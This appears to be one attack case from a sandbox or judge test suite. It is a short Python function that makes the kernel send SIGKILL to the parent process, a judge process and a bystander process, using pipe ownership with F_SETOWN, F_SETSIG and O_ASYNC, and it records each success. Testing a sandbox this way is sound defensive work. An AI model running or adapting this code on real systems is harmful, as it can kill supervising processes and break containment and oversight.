"""Have the kernel send SIGKILL to the zygote, as the owner of a pipe that becomes readable."""

# ends: answer

import fcntl
import os
import signal

F_SETSIG = 10


def attack(world, won):
    for target in (os.getppid(), world["judge"], world["bystander"]):
        read, write = os.pipe()
        try:
            fcntl.fcntl(read, fcntl.F_SETOWN, target)
            fcntl.fcntl(read, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(write, b"!")
            won.append(f"owned by {target}")
        except OSError:
            pass
